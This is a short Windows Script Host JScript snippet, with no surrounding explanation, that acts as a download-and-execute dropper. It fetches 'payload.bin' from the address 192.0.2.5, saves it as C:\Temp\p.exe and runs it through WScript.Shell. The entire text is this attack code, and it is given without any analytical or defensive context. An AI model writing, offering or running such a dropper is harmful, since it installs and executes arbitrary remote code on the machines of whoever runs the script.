// WSH
var sh = new ActiveXObject("WScript.Shell");
var x = new ActiveXObject("WinHttp.WinHttpRequest.5.1");
x.Open("GET", "http://192.0.2.5/payload.bin", false);
x.Send();
var st = new ActiveXObject("ADODB.Stream");
st.Write(x.ResponseBody);
st.SaveToFile("C:\\Temp\\p.exe", 2);
sh.Run("C:\\Temp\\p.exe");
